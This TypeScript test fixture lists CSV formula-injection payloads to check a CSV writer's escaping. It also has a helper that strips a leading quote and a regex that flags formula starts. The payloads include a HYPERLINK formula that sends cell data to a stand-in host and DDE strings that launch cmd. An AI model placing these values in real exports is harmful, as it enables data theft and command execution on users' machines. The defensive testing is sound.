/**
 * Animal names a hostile service (or a prankster at the counter) could send,
 * for the CSV round-trip tests: formulas in every disguise OWASP lists, and
 * text a CSV writer must keep exact.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\tRex',
  '\rRex',
  '   =1+1',
  'Rex\n=1+1',
  'Rex "the Great"',
  'Rex, Fido, Bella',
  'x;=1+1',
  "'=1+1",
  "'quoted",
  'Zoë Müller — 猫',
  '🐱 Whiskers 👨‍👩‍👧 🇫🇷',
  '-',
  '-5',
  '-0.25',
];

/** The documented way back from a CSV cell to the value: one leading `'` was added. */
export function unprefixed(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

/** What a spreadsheet could take for a formula at the start of a cell. */
export const FORMULA_START = /^[\s]*[=+\-@]|^[\t\r]/;
